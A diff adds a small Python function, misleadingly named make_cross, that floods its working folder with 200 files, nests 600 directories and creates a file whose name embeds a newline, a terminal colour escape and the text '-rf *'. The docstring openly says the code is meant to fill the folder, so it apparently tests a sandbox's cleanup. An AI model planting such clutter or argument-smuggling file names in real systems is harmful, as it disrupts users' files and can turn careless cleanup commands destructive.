@@ -1,0 +1,14 @@
+"""Fills the folder that it may write in: many files, deep folders, names that are hard to remove."""
+
+import os
+
+
+def make_cross(size=7):
+    for number in range(200):
+        with open(f"file-{number}", "w") as file:
+            file.write("x" * 1000)
+    for number in range(600):
+        os.mkdir("d")
+        os.chdir("d")
+    open("\n\x1b[31m-rf *", "w").close()
+    return 0
